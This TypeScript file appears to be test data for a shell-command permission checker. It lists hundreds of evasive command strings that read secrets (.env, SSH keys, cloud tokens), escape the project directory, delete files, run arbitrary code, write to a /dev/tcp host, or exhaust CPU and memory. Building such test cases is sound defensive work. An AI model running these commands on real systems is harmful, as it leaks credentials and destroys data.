/**
 * More commands made to slip through, by what they find odd in a program or in the shell: endless work, files named like
 * options, values that vanish, names of secrets put together. None may run without a question.
 */
export const furtherAttackCases: readonly string[] = String.raw`
bc <<< '2^2^40'
bc <<< '9^9^9^9'
echo '10^1000000000' | bc
echo 'while(1){}' | bc
echo 'for(;;){}' | bc
bc <<< 'define f(x){return f(x);} f(1)'
bc <<< 'read()'
echo 'scale=100000000; 1/3' | bc
bc <<< 'for(i=0;i<9999999999;i++){}'
bc -l <<< 's(10^1000000)'
bc .env
bc x.b
for i in {1..1000}; do sleep 60; done
for i in {1..1000}; do for j in {1..1000}; do sleep 1; done; done
for i in {1..1000}; do for j in {1..1000}; do for k in {1..1000}; do ls; done; done; done
for ((i=0;i<1000000000;i++)); do :; done
for ((i=0;i<1000;i++)); do sleep 30; done
for ((i=0;i<10;i++)); do for ((i=0;i<5;i++)); do :; done; done
for ((i=0;i<10;i++)); do ((i--)); done
for ((i=0;i<10;i++)); do read i <<< 0; done
for ((i=0;i<10;i++)); do i=0; done
for ((i=0;i<10;i++)); do ((i=0)); done
for ((i=0;i<10;i++)); do echo $((i=0)); done
for ((i=0;i<10;i++)); do printf -v i 0; done
for ((i=0;i<10;i++)); do for i in 0; do :; done; done
for ((i=0;i<10;i++)); do echo \${x:=$((i=0))}; done
for ((i=0;i<10;i++)); do [[ $((i=0)) ]]; done
for ((i=0;i<10;i++)); do echo <<< $((i=0)); done
for ((i=0;i<10;i++)); do echo $((i-=1)); done
for ((i=0;i<10;i++)); do echo {$((i=0)),1}; done
for ((i=0;i<10;i++)); do case $((i=0)) in 0) :;; esac; done
for ((i=0;i<10;i+=0)); do :; done
for ((i=0;i<10;i=i)); do :; done
for ((i=0;i<j;i++)); do ((j++)); done
for ((i=0,j=1;i<j;i++,j++)); do :; done
for ((i=10;i>0;i++)); do :; done
seq 1000000 | while read i; do sleep 1; done
seq 1000000 | xargs -n1 sleep
seq 100 | xargs -n1 sleep
seq 1 5 | xargs -I{} sleep {}00000
seq 1 100000000
seq 1e12
seq 0 0.0000000001 1
seq -f %g 1 1000000000
seq 10 | while read i; do while read j; do sleep 100; done < README.md; done
while read l; do while read m; do :; done < README.md; done
while read l < README.md; do echo "$l"; done
while IFS= read -r l < README.md; do :; done
while read l; do :; done <> README.md
while read l; do :; done < /dev/zero
while read l; do :; done < <(yes)
while read l; do exec < README.md; done < README.md
while read l; do :; done < link-out
vmstat 1
free -s 1
iostat 1
mpstat 1
top -b
dmesg -w
dmesg -C
journalctl -f
sar 1
pidstat 1
pgrep -f x | xargs kill
ps axewww
ps -A e
ps -o pid,environ
ps axo pid,environ
ps -eo environ
ps eww -p 1
ps --format environ
exit | yes
kill -STOP $$
kill -l | xargs kill
date -u 0101000020
date --set '2020-01-01'
date -s@0
date +%s -s now
hostname --file x
date --rfc-email=x -s y
uniq README.md p
uniq -- README.md p
uniq - p
uniq -c -d README.md p
uniq README.md -c p
sort README.md -op
sort -uo p README.md
sort -k1 -o p README.md
sort --outpu=p README.md
sort -S 1T README.md --temporary-directory=.
sort --parallel=8 -T . README.md
sort -R --random-source=.env README.md
xxd -p README.md p
xxd -c 4 README.md p
xxd -i README.md p
xxd README.md -- p
fold README.md > p
iconv -f a -t b README.md -o p
iconv -f utf8 -t utf16 .env
tree -H . -o p
tree --output=p
tree -L 1 -o p
tree --fromtabfile list
nl README.md > p
od -w .env
hexdump -f .env README.md
hexdump -e '"%s"' .env
strings -f .env
strings @list
strings @.env
nm @list
size @.env
readelf -h @.env
ar t @list
objdump @.env
gcc @list
file -m x README.md
file -P bytes=1 x
du --files0-from=-
wc --files0-from=-
find . -files0-from -
find . -regextype x -delete
find . -printf '%p' -fprintf p '%p'
find . -name '*.ts' -exec cat {} + -o -delete
find . -name '*.ts' -exec cat .env \;
find . -name '*.ts' -exec cat {} .env +
find . -name '*.ts' -exec cat {}/../.env \;
find . -name '*.ts' -exec cat ../outside.txt \;
find . -name '*.ts' -exec head -1 {} \; -exec rm {} \;
find . -name '*.ts' -execdir cat .env \;
find src -name '*.ts' -exec grep -r KEY . \;
find src -name '*.ts' -exec find . -delete \;
find src -name '*.ts' -exec xargs rm \;
find src -name '*.ts' -exec git show HEAD:.env \;
find src -name '*.ts' -exec env \;
find src -name '*.ts' -exec {} \;
find src -name '*.ts' -exec cat {} \; -quit -delete
find src -type f -exec sed -n 'w p' {} \;
find src -type f -exec sort -o {} {} \;
find src -type f -exec uniq {} p \;
find src -type f -exec tee {} \;
find src -type f -exec bash {} \;
find src -type f -exec awk -f {} \;
find . -name '.[e]nv' -exec cat {} \;
find . -name '?env' -exec cat {} \;
find . -iname '.ENV' -exec cat {} \;
find . -not -name '*.ts' -type f -exec cat {} +
find . ! -name x -type f -exec cat {} \;
find . -type f ! -name x -print0 | xargs -0 cat
find . -type f -not -path './node_modules/*' | xargs cat
find . -type f -not -path './.git/*' -exec grep -h . {} +
find . -name '*.ts' -o -name '.e*' -exec cat {} +
find . \( -name '*.ts' -o -name '*env' \) -exec cat {} +
find . \( -name '*.ts' -o -name '*env' \) | xargs cat
find . -name '*.ts' , -name '.env' -exec cat {} +
find . -not \( -name '*.ts' -or -name x \) -type f -exec cat {} +
find . -not -not -name .env -exec cat {} +
find . ! ! -name '.e*' | xargs cat
find . -name '*.ts' -not -name '*.ts' -o -type f | xargs cat
find . -type f -empty -o -size +0 | xargs cat
find . -type f -name '*' -not -name '*.ts' | xargs head
find . -not -type d | xargs cat
find . -type f -not -name '.env' -not -path 'x' | xargs cat
find . -name '*.md' -not -path '*/x/*' | xargs rm
find . -name '*.md' -not -path '*/x/*' | xargs sh
find . -name '*.md' -not -exec rm {} \; | xargs wc
find . -name '*.md' -not -delete | xargs wc
find . -name '*.md' ! -fprint p | xargs wc
find -L . -name '*.md' -not -path x | xargs cat
find .. -name '*.md' -not -path x | xargs cat
sed -n '/a/,/b/{p;w p
sed 's/a/b/;#x;w p' README.md
sed '1{p};w p' README.md
sed '1{p}w p' README.md
sed ':a w p' README.md
sed 'ba;w p' README.md
sed 'ta}w p' README.md
sed 'y/a/b/;w p' README.md
sed 'y/abc/w p/;w p' README.md
sed 's/[/]/x/;w p' README.md
sed 's/[/]w p/x/' README.md
sed 's/\//x/w p' README.md
sed 's|a|b|w p' README.md
sed 's,a,b,gpw p' README.md
sed 's/a/b/gew p' README.md
sed 's/a/b/ge' README.md
sed 's/a/b/2e' README.md
sed 's/a/b/Me' README.md
sed 's/a/b/ e' README.md
sed 's/a/b/w/dev/stdout' README.md > p
sed 'i\' -e '1e id' README.md
sed -e 'a\' -e 'x' -e 'w p' README.md
sed -e 'i\
sed --sandbox -i s/a/b/ README.md
sed -n --posix 'w p' README.md
sed -E -i.bak 's/a/b/' README.md
sed -nip README.md
sed -n -s -i p README.md
sed -u -i p README.md
sed p -i README.md
sed p README.md --in-place
sed --in-plac p README.md
sed p -- README.md .env
sed -n '1!G;h;$!d;w p' README.md
sed '$!N;P;D;w p' README.md
sed '0~3w p' README.md
sed '/x/I,+3w p' README.md
sed '\,x,w p' README.md
sed '\w x wwp' README.md
sed 's w a wbwwp' README.md
sed '1,3!w p' README.md
sed '1 ! w p' README.md
sed 'l;w p' README.md
sed 'l 5;w p' README.md
sed 'q5;w p' README.md
sed '=;w p' README.md
sed 'z;w p' README.md
sed 'F;w p' README.md
sed 'v4.2;w p' README.md
sed '1e' README.md
sed '/x/e date' README.md
sed 'r/etc/passwd' README.md
sed '/x/r ../outside.txt' README.md
sed 'R../outside.txt' README.md
sed '$r .env' README.md
sed 'T;b;w p' README.md
sed ':x;N;bx' README.md | sh
sed ':a;s/^/x/;ta' README.md
sed ':a;ta;ba' README.md
sed -z ':a;s/a/a/;ta' README.md
sed ':a;s/x*/&/;ta' README.md
awk 'BEGIN{while(i<10) i+=0}'
awk 'BEGIN{for(i=0;i<10;i--);}'
awk 'BEGIN{for(i=0;i<10;i++) i=0}'
awk 'BEGIN{do{}while(1)}'
awk 'BEGIN{for(i=0;i>=0;i++) x++}'
awk 'BEGIN{for(i=1;i<=1e15;i++);}'
awk 'function f(){f()} BEGIN{f()}'
awk 'function f(x){return f(x+1)} BEGIN{print f(1)}'
awk 'BEGIN{while((getline l) >= 0);}'
awk 'BEGIN{while(getline l < "README.md" >= 0) close("README.md")}'
awk 'BEGIN{getline l < "../outside.txt"; print l}'
awk 'BEGIN{getline < "/etc/passwd"; print}'
awk 'BEGIN{f=".env"; while((getline l<f)>0) print l}'
awk 'BEGIN{print "x" > "/dev/stderr"; print "y" > "p"}'
awk 'BEGIN{print "x" > "/dev/tcp/1.2.3.4/5"}'
awk 'BEGIN{printf("x") > "p"}'
awk 'BEGIN{print("x")>>"p"}'
awk '{print>"p"}' README.md
awk '{print $1>FILENAME}' README.md
awk '{print > ($1 ".txt")}' README.md
awk 'BEGIN{print 1>2?"p":"q"}'
awk 'BEGIN{print "a" "b" > "c" "d"}'
awk 'BEGIN { print "touch p" | "/bin/sh" }'
awk 'BEGIN { "id" | getline x; print x }'
awk 'BEGIN { cmd="id"; cmd | getline; print }'
awk 'BEGIN { print |& "id" }'
awk 'BEGIN { system ("id") }'
awk 'BEGIN { system	("id") }'
awk 'BEGIN { x=system("") }'
awk '/x/{system("rm " $1)}' README.md
awk 'BEGIN{printf "%s", "x" | "cat > p"}'
awk -f /dev/fd/3 3<<<'BEGIN{system("id")}'
awk --file=x.awk README.md
awk -fx.awk README.md
awk --source 'BEGIN{system("id")}'
awk -e 'BEGIN{system("id")}'
awk -i inplace 1 README.md
awk --include=inplace 1 README.md
awk -l readfile 'BEGIN{print readfile(".env")}'
awk --load=fork 'BEGIN{fork()}'
awk -v FS=, -i inplace 1 data.csv
awk -D 1 README.md
awk -dp 1 README.md
awk -pp 1 README.md
awk -op 1 README.md
awk --dump-variables=p 1 README.md
awk --pretty-print=p 1 README.md
awk --exec x.awk
awk --debug=x 1 README.md
awk --gen-pot 1 README.md > p
awk 1 ../outside.txt
awk 1 FS=, ../outside.txt
awk 1 x=.env /dev/stdin < .env
awk 'BEGIN{ARGV[ARGC++]=".env"} 1'
awk 'FNR==1{ARGV[2]=".env";ARGC=3} 1' README.md
awk 'BEGIN{for(i in ENVIRON)print ENVIRON[i]}'
awk 'BEGIN{for (x in PROCINFO) print PROCINFO[x]}' > p
awk 'BEGIN{e="ENVIRON"; print SYMTAB[e]["HOME"]}'
awk 'BEGIN{for(k in SYMTAB["ENVIRON"]) print k}'
awk 'BEGIN{SYMTAB["ARGC"]=2; SYMTAB["ARGV"][1]=".env"} 1'
awk 'BEGIN{@x()}'
awk '@namespace "a"; BEGIN{awk::system("id")}'
awk 'BEGIN{awk::system("id")}'
awk 'BEGIN{sys\tem("id")}'
awk "BEGIN{sys""tem(\"id\")}"
awk "BEGIN{\"$(id)\"}"
awk 'BEGIN{printf "%*d", 1e9, 1}'
awk 'BEGIN{s="x"; while(length(s)<1e12) s=s s}'
awk 'BEGIN{x = sprintf("%1000000000d", 1)}'
jq -n 'recurse(.+1)'
jq -n '1|recurse(.)'
jq -n '1|recurse(if . then . else empty end)'
jq -n 'def f: 1, f; f'
jq -n 'def f: def g: f; g; f'
jq -n 'last(range(1e12))'
jq -n 'reduce range(0;1e12) as $i (0;.+$i)'
jq -n '[limit(1e12; range(1e15))]|length'
jq -n 'first(range(1e18)|select(.<0))'
jq -n 'until(false;.)'
jq -n '1|while(true;.)'
jq -n 'foreach range(1e12) as $i (0;.)'
jq -n '[.,1]|until(.[0]>1e18; .)'
jq -n 'label $x | repeat(1)'
jq -n '"x"|modulemeta'
jq -n 'import "x" as $y; $y'
jq -n 'include "/etc/x"; 1'
jq -n 'import "a" as a {search:"../"}; 1'
jq -n '$ENV|keys'
jq -n '$ENV.PATH'
jq -n '[env]'
jq -n 'env|to_entries'
jq -n '"\($ENV.HOME)"'
jq -n '"\(env.HOME)"'
jq -n '{a:env}'
jq -n 'def x: env; x'
jq -n '. as {a:$x} | $ENV'
jq -n '$ENV["HOME"]'
jq -n '$\u0045NV'
jq 'getpath(["a"]) | env' package.json
jq . package.json .env
jq . --args package.json -- .env
jq --args . package.json --indent 2 .env
jq --jsonargs . package.json .env
jq -n --slurpfile a .env '$a'
jq -n --rawfile a .env '$a'
jq -n --rawfile a ../outside.txt '$a'
jq -n --from-file x.jq
jq -nf x.jq
jq -fn x.jq
jq -Ln . 1
jq -n -L ~/.jq 1
jq -nr '@text "\(input_filename)"' .env
jq -R . < .env
jq -Rs . .env
jq -Rn '[inputs]' .env
jq -n '[inputs]' ../outside.txt
jq -n 'input_line_number, input' .env
jq -n 'splits("a";"b")' .env
jq -n '"x" * 1000000000000'
jq -n '[range(1e10)]'
jq -n 'halt_error' > p
jq . p/../.env
read 'a[$(touch p)]' <<< x
read "a[\$(touch p)]" < README.md
read PATH <<< .; ls
read -r CDPATH < README.md; cd src
read IFS <<< x
read BASH_ENV < list
read -u 3 x 3< .env
read -d '' x < .env; echo "$x"
read -a PATH <<< .
read -i x y
read -n 1 x < /dev/zero
read -N 99 x < .env
read x y PATH <<< '1 2 .'; ls
while read PATH; do ls; done <<< .
while read -r x HOME; do cat ~/y; done < list
for PATH in .; do ls; done
for IFS in /; do ls; done
for PWD in /etc; do cat $PWD/passwd; done
for OLDPWD in /etc; do cd -; done
for CDPATH in /etc; do cd ssl; done
for BASH_ENV in x; do bash -c ls; done
for GIT_DIR in x; do git log; done
for GLOBIGNORE in x; do ls *; done
for LD_PRELOAD in ./x.so; do ls; done
for POSIXLY_CORRECT in 1; do ls; done
for _ in 1; do ls; done; $_
for GIT_EXTERNAL_DIFF in ./x; do git diff; done
HOME=/etc cat ~/passwd
PWD=/etc; cat $PWD/passwd
CDPATH=/etc; cd ssl
GIT_DIR=/x; git log
IFS=:; echo $PATH
TZ=/etc/passwd date
TZ=:../../x date
LANG=../../x ls
LC_ALL=/x ls
LANGUAGE=../x ls --help
TERM=../../x ls
COLUMNS=1 PATH=. ls
x=1 LD_PRELOAD=./x ls
EDITOR=./x git commit
((PATH=0)); ls
(( HOME = 5 ))
(( UID = 0 ))
(( BASHPID ))
(( x++ , PATH=1 ))
(( OPTIND=1 ))
((GIT_DIR=1)); git log
: $((PATH=1)); ls
echo $((IFS=1))
echo $((x[PATH]))
echo $((x=y=z))
for (( PATH=0; PATH<3; PATH++ )); do ls; done
for (( i=0; i<3; PATH=i++ )); do ls; done
for (( i=$(touch p); i<3; i++ )); do ls; done
for (( i=0; i<$(cat list); i++ )); do ls; done
for (( i=0; i<x; i++ )); do ls; done
set -k; ls PATH=.
set -a; x=1; ls
set -o keyword
set -o allexport
set -o noclobber -k
set -euk
set -eu -o pipefail -o keyword
set -n; ls
set -v
set -o history
set -o emacs
set -- .env; cat "$1"
set -- rm x; "$@"
set .env; cat $1
set - .env; cat $1
set -e .env; cat $1
set -eu -- .env; cat $1
set -euo pipefail .env; cat $1
set +e .env; cat "$1"
x=.env.example; cat \${x%.example}
x=.env.example; cat "\${x/.example/}"
x=.env.example; cat "\${x::4}"
x=.env.example; cat "\${x:0:4}"
x=.ENV; cat "\${x,,}"
x=.env; y=$x; cat $y
x=env; cat .$x
for x in .env; do cat $x; done
for x in .e; do cat \${x}nv; done
for x in env; do cat ".$x"; done
for x in {.env,a}; do cat $x; done
read x <<< .env; cat "$x"
read -r f < list; cat "$f"
cat "$(head -1 list)"
cat $(head -1 list)
while read f; do cat "$f"; done <<< .env
while read f; do cat "$f"; done < list
echo .env | while read f; do cat "$f"; done
echo .env | { read f; cat "$f"; }
cat $OLDPWD/.env
ls -a | grep env | xargs cat
find . -name '.e*' | xargs cat
find . -maxdepth 1 -name '.[e]nv' | xargs head
grep -l KEY .env | xargs cat
rg -l KEY -uu | xargs cat
rg -l KEY --hidden | xargs head
grep -rl KEY . | xargs cat
grep -rl KEY . | while read f; do cat "$f"; done
grep -rlZ KEY . | xargs -0 cat
git ls-files -io --exclude-standard | xargs cat
git ls-files -o | while read f; do cat "$f"; done
git status --porcelain --ignored | awk '{print $2}' | xargs cat
cat $(ls -a | grep env)
cat $(find . -name '*env')
cat $(find . -type f -name '.*')
cat $(grep -rl KEY .)
sed -n p $(ls -a)
comm -12 <(ls -a) <(echo .env) | xargs cat
cat .git/config | grep url > p
cat .git/../.env
cat .git/FETCH_HEAD > p
cat .[!.]*
cat .[^x]*
cat .e{n,x}v
cat .{e..e}nv
cat "."{env,x}
cat .ENV
cat .Env
cat .env/
cat ./.env/.
cat .env.example/../.env
cat docs/../.e*
cat */../.env
cat ．env
cat .env~
cat .envrc
head -1 .env*
cat id_rs?
cat id*
cat i*
cat *rsa
cat -v < id_rsa
cat link-*
cat link-out-folder/*
head link-out-folder/o.txt
ls | xargs -I{} cat {}
ls link-out-folder/ | xargs cat
cd link-out-folder && cat o.txt
cd src/../.. ; ls
cd "$(git rev-parse --show-toplevel)/.." && ls
cd $(dirname "$PWD")
cd \${PWD%/*}
cd ~root
cd docs/.. && cd .. && ls
echo x > /dev/pts/0
echo x > /dev/fd/3
echo x > /dev/null2
echo x > /dev/null/../../tmp/p
echo x > "/dev/null "
echo x > /dev/nul?
echo x > //dev/null/../p
echo x > /dev/stdout/p
echo x > /proc/self/fd/1
echo x > /dev/shm/p
echo x > /dev/full; echo x > /dev/sda
ls 1>/dev/null 2>p
ls 1<>p
ls 2>&p
ls >&p 2>&1
ls <&0 >p
ls {x}>/tmp/p
ls 99>p
cat < p > q
git for-each-ref --sort=signature
git for-each-ref --sort=-signature:grade
git branch --sort=signature
git tag --sort=signature:key
git for-each-ref --format='%(signature)'
git branch --format='%(signature:grade)'
git log --format='%(signature)'
git log --pretty='tformat:%GF'
git log --format='%C(auto)%G?'
git stash list --format=%G?
git reflog --format=%GS
git shortlog --format=%GS
git shortlog --group=format:%GS
git rev-list --format=%GK HEAD
git diff-tree --pretty=%GK HEAD
git log --grep=x --format=%G
git notes --ref=x add
git notes get-ref > p
git notes merge x
git notes remove HEAD
git notes list > p
git branch -v new
git branch -q new
git branch -i new
git branch --no-color new
git branch -a new
git branch -r new
git branch -vv new
git branch --sort=x new
git branch --format=x new
git branch --abbrev=4 new
git tag -i new
git tag --sort=x new
git tag --format=x new
git tag --color new
git tag --no-column new
git stash show --include-untracked -p > p
git stash --help
git stash list --output=p
git worktree list x
git worktree lock x
git remote rename a b
git remote set-head origin -a
git remote set-branches origin x
git remote -v show origin
git remote get-url --push origin > p
git describe --tags --broken > p
git rev-parse --exec-path > p
git rev-parse --local-env-vars > p
git rev-list --use-bitmap-index --output=p HEAD
git rev-list --disk-usage --output=p HEAD
git rev-list --stdin
git diff --stdin
git show --stdin
git log --remerge-diff
git log --output-indicator-new=x --output=p
git diff --textconv HEAD
git log --no-index
git diff -O/etc/passwd
git diff -O.env
git log --mailmap-file=.env
git blame --contents=../outside.txt README.md
git blame --contents - README.md < .env
git blame --ignore-revs-file=../x README.md
git blame -s --output=p README.md
git cat-file --batch < list
git cat-file --batch-check < list
git cat-file --batch-all-objects --batch
git cat-file -p :.env
git cat-file -p HEAD:../x
git ls-files --exclude-from=../outside.txt -o
git ls-files -X../outside.txt -o
git ls-files --exclude-per-directory=.env -o
git check-ignore -v --stdin < .env
git check-attr --stdin -a < list
git check-attr --source=x -a README.md > p
git grep -e KEY --no-index -- .env
git grep --untracked KEY
git grep --no-exclude-standard --untracked KEY
git grep KEY -- .env
git grep -h . -- ':(top).env'
git grep --recurse-submodules --untracked KEY
git grep -O KEY
git grep -Oless KEY
git grep --ext-grep KEY
git config -f ../x a.b
git config --file=.env a.b
git config --blob=HEAD:x a.b
git config --system core.editor x
git config unset a.b
git config edit
git config list
git config --get-regexp 'cred|http'
git config get --all --show-names --regexp .
git config --get http.extraHeader
git config --get url.x.insteadOf
git config --get remote.origin.token
git config user.name --unset
git config --unset-all user.name
git config --remove-section user
git config remote.origin.url https://x
git config --local user.email x@y
git config --type=path --get core.x --default ~/x --unset
git -C src/.. -C .. status
git -C "$(pwd)/.." log
git -C link-out-folder status
git -C /proc/self/cwd show HEAD:.env
git --no-pager -c core.pager=x log
git -P -p log
git --html-path > p
git --list-cmds=main > p
git --no-lazy-fetch fetch
git --icase-pathspecs log -p -- .ENV
git --glob-pathspecs log -p -- '.e*'
git --literal-pathspecs log -p -- . ':!.env'
git --no-replace-objects log -p
timeout -k 1 5 touch p
timeout 1d sleep 1d
timeout --preserve-status 5 tee p
nice rm x
nice -n 19 sh x
nice -19 touch p
time -p sh x
time { rm x; }
time ! rm x
command -- rm x
builtin printf -v x y
builtin read PATH
nohup rm x
xargs -r rm < list
xargs --max-args=1 rm < list
xargs -E x rm < list
xargs -i rm {} < list
xargs --replace rm {} < list
xargs --arg-file=list cat
xargs --arg-file .env
xargs -0 -a .env echo
xargs -p cat < list
xargs -x -s 100 rm < list
xargs --process-slot-var=PATH ls < list
xargs --process-slot-var=LD_PRELOAD cat < list
xargs git < list
xargs find < list
xargs sed < list
xargs awk < list
xargs grep < list
xargs sort < list
xargs date < list
xargs uniq < list
xargs xxd < list
xargs hostname < list
xargs git log < list
xargs git show < list
xargs jq < list
xargs tar < list
xargs rg foo < list
xargs tree < list
xargs file < list
xargs -I{} git show {} < list
xargs -I{} sed -n {}p README.md < list
xargs -I{} awk '{print}' {} < list
xargs -n1 cat < list
xargs cat < list
xargs head -1 < list
xargs bash < list
tar tf x.tar -C / --to-stdout
tar tf ../x.tar
tar -tf x.tar --one-top-level --delete
tar --list --file=h:x
tar tf h:x
tar tzf x.tar -O
tar tf x.tar --warning=x --info-script=./x
tar tf x.tar --new-volume-script=./x -M
tar tMf x.tar
tar tf x.tar -T list
tar tf x.tar --files-from=.env
tar tf x.tar -X .env
tar tf x.tar --exclude-from=.env
tar tf x.tar --use-compress-prog=./x
tar tIf ./x x.tar
tar tf x.tar --transform='s/a/b/e'
tar tf x.tar --xform 's/a/b/e'
tar tf x.tar --checkpoint-action='exec=sh x'
tar tvf x.tar --utc --touch
tar -tvf x.tar --remove-files
unzip -l x.zip -d ..
unzip -lx
unzip -p x.zip .env
unzip -Z -1 ../x.zip
unzip -t x.zip -x y > p
zipinfo -T ../x.zip
zcat < .env
gzip -l ../x.gz
gzip -lv .env
expr $(cat list) + 1
expr substr "$(cat .env)" 1 9
numfmt < .env
printf '%(%F)T' > p
printf '%s' "$(cat .env)"
printf -v PATH .; ls
printf "-v" x y
echo $(echo $(cat .env))
: "$(cat .env)"
[ "$(cat .env)" ] && echo x
[[ $(cat .env) == K* ]] && echo y
[[ -s .env ]] && [[ $(<.env) =~ S ]] && echo z
case $(cat .env) in K*) echo yes;; esac
x=$(cat .env); echo \${#x}
grep -q KEY=a .env && echo guess
cmp .env README.md
test .env -nt README.md && cat .env
wc -c < .env
md5sum .env
cut -c1 .env
openssl dgst .env
ssh-keygen -lf id_rsa
ssh-keygen -y -f id_rsa
ssh-add -L
gpg -d x
keyctl show
secret-tool lookup a b
kubectl config view --raw
docker inspect x
docker compose config
npm token list
cargo login
gh auth status -t
aws configure list
az account get-access-token
terraform version
terraform output
az --version
helm get values x
vault read x
op read x
awk 'BEGIN{for(i=0;i<1000000000000000;i++) x++}'
awk 'BEGIN{for(i=0;i<999999;i++) for(j=0;j<999999;j++) x++}'
awk -v n=99999999999999 'BEGIN{for(i=0;i<n;i++) x++}'
awk -v n=1e18 'BEGIN{for(i=0;i<n;i++) x++}'
awk 'BEGIN{s="x"; for(i=0;i<60;i++) s=s s}'
awk 'BEGIN{s="x"; for(i=0;i<60;i++) gsub(/x/,"xx",s)}'
awk 'BEGIN{s="x"; for(i=0;i<60;i++) {t=s; s=s t}}'
awk 'BEGIN{s="x"; for(i=0;i<60;i++) s = s "," s}'
awk -v n=60 'BEGIN{s="x"; for(i=0;i<n;i++) s=s s}'
awk '{s="x"; for(i=1;i<=NF;i++) s=s s} END{print s}' README.md
awk 'BEGIN{s="x"} {s=s s} END{print length(s)}' README.md
awk 'BEGIN{s="x"} {t=s; s=(s ? s : "") t}' README.md
awk '{a[NR]=1} END{s="x"; for(k in a) s=s s}' README.md
awk '{a[NR]=1} END{$0="x"; for(k in a) $0=$0 $0}' README.md
awk '{a[NR]=1} END{s="x"; for(k in a) sub(/$/,s,s)}' README.md
awk '{a[NR]=1} END{s="x"; for(k in a) gsub(/x/,"&&",s)}' README.md
awk 'BEGIN{s="x"} {gsub(/x/,"xx",s)} END{print length(s)}' README.md
awk 'NR==1{s=$0} NR>1{s = s "x"; gsub(/x/,"&&",t)}' README.md
awk 'BEGIN{printf "%" 999999999 "d", 1}'
awk 'BEGIN{printf "%1$999999999d", 1}'
awk 'BEGIN{x="%"; printf x "999999999d", 1}'
awk 'BEGIN{printf "\045999999999d", 1}'
awk '{$100000000=1} END{print}' README.md
awk '{NF=100000000; print}' README.md
jq -n '"a" * 1e9'
jq -n '1000000000 * "a"'
jq -n '10000000 as $n | "a" * $n'
printf "%$(date +%s)d" 1
x=a; for i in {1..10}; do for j in {1..10}; do x=$x$x; done; done
x=a; for i in {1..60}; do for y in "$x$x"; do x=$y; done; done
x=a; for i in {1..60}; do read -r x <<< "$x$x"; done
x=a; for i in {1..60}; do x=$(echo $x | sed 's/a/aa/g'); done
x=a; for i in {1..60}; do x=$(sed 's/./&&/g' <<< $x); done
x=a; for i in {1..60}; do x=$(awk '{print $0 $0}' <<< $x); done
x=a; for i in {1..60}; do x=$(echo $x{,,}); done
x=a; for i in {1..60}; do x=$(for j in 1 2; do echo $x; done); done
x=a; for i in {1..60}; do x=$(base64 <<< $x); done
x=a; for i in {1..60}; do echo; if true; then x=$x$x; fi; done
x=a; for i in {1..60}; do y=$x; x=$y$y; done
x=a; for i in {1..60}; do y=$x$x; x=$y; done
x=a; for i in {1..60}; do y=b; y=$x$x; x=$y; done
x=a; for i in {1..60}; do x=b & x=$x$x; done
x=a; for i in {1..60}; do [ -n "$y" ] && y=a; x=$y; y=$x$x; done
x=a; for i in {1..60}; do true && x=b || true; x=$x$x; done
for i in $(seq 1000000); do sleep 0.5; done
for i in $(seq 9999999); do echo $i; done
find . -name "$(date +%s)" -exec cat {} \;
while read -r n; do find . -name "$n" -exec cat {} \; ; done < README.md
awk 'BEGIN{printf "%1000000000d", 1}'
awk 'BEGIN{printf "%*d", 1000000000, 1}'
x=a; for i in {1..60}; do x=$x$x; done
x=a; for i in {1..60}; do x="$x$x"; done
x=a; y=b; for i in {1..60}; do x=$x$y; y=$y$x; done
x=a; for i in {1..60}; do x=\${x}b\${x}; done
x=a; for i in {1..60}; do x="$x $(echo $x)"; done
x=a; for i in {1..60}; do x=\${x//a/aa}; done
x=a; for i in {1..60}; do x=$(echo $x $x); done
x=$(printf 'a%.0s' {1..1000}); for i in {1..50}; do x="$x$x"; done; echo \${#x}
jq -n 'reduce range(0;60) as $i ("x"; .+.)'
jq -n 'reduce range(60) as $i ([1]; .+.)'
jq -n '"x"*1000000000'
jq -n '[range(1000000000)]|length'
jq -n 'range(1000000)|range(1000000)|range(1000000)'
jq -n '[limit(1000000000; repeat(1))]'
jq -n 'last(range(100000000000))'
seq 999999999 | sort
seq 999999999 | awk '{a[NR]=$0}'
head -c 99999999999 /dev/zero
echo {1..1000}{1..1000}{1..1000}
echo {a..z}{a..z}{a..z}{a..z}{a..z}{a..z}
ls {1..1000}{1..1000}
shuf -i 1-99999999999
shuf -i 1-999999999
shuf -r -n 99999999999 -e a
sort -S 99% README.md README.md > p
cat README.md{,,,,,,,,,,}{,,,,,,,,,,}{,,,,,,,,,,}{,,,,,,,,,,}{,,,,,,,,,,}{,,,,,,,,,,}
sed 'G;G;G;G' README.md > p
sed ':a;s/$/x/;/x\{1000000000\}/!ba' README.md
grep -E '((a{1,300}){1,300}){1,300}' README.md
grep -E 'a{1,1000}{1,1000}{1,1000}' README.md
sed -E '/((a{1,300}){1,300}){1,300}/p' README.md
awk '/((a{1,300}){1,300}){1,300}/' README.md
egrep '((a{300}){300}){300}' README.md
grep '\(\(a\{1,300\}\)\{1,300\}\)\{1,300\}' README.md
git grep -E '((a{1,300}){1,300}){1,300}'
find . -regextype posix-extended -regex '((a{1,300}){1,300}){1,300}'
git log --grep='\(\(a\{1,300\}\)\{1,300\}\)\{1,300\}'
[[ aaaa =~ ((a{1,300}){1,300}){1,300} ]]
expr a : '\(\(a\{1,300\}\)\{1,300\}\)\{1,300\}'
rg '((a{1,300}){1,300}){1,300}' --regex-size-limit 100G
factor 99999999999999999999999999999999999999999999999999
echo 99999999999999999999999999999999999999999999 | factor
seq 1 99999 | factor > p
cal 9999 > p
date -d 'TZ="../../../etc/passwd" now'
date --debug -d now > p
date -d "$(cat .env)"
stat -f .env -c %n > p
size @list
readelf -h @list
objdump -d @list
objdump -S main.o
objdump -d main.o --source
objdump -dl main.o
objdump --dwarf=follow-links main.o
objdump -W main.o
objdump -d --plugin=./x main.o
objdump -b binary -s .env
objdump -s -b binary .env
nm --plugin ./x main.o
strings -a -T pei .env
for f in @*; do nm $f; done
nm *
gofmt -w main.go
gofmt -l -w .
gofmt --w main.go
gofmt -cpuprofile=p main.go
gofmt -r 'a -> b' -w .
gofmt -d .env
gofmt ../x.go
git for-each-ref --sort signature
git branch --sort=-signature:key
git tag -l --sort=signature
find . -type f -exec cat {} \; -name '*.ts'
find . -exec cat {} + -type f -name '*.ts'
find . -type f -print0 -name '*.ts' | xargs -0 cat
find . -print -name '*.ts' | xargs cat
find . -type f \( -print -name '*.ts' \) | xargs cat
find . -type f \( -print0 -o -name x \) -name '*.ts' | xargs -0 cat
find . \( -exec cat {} \; \) -type f -name '*.ts'
find . -type f \( -exec cat {} \; -name '*.md' \) -name '*.ts'
find . ! -print -name '*.ts' | xargs cat
find . -type f \( -name '*.ts' -o -name '*' \) -exec cat {} +
find . -type f -name '*.ts' -o -print0 | xargs -0 cat
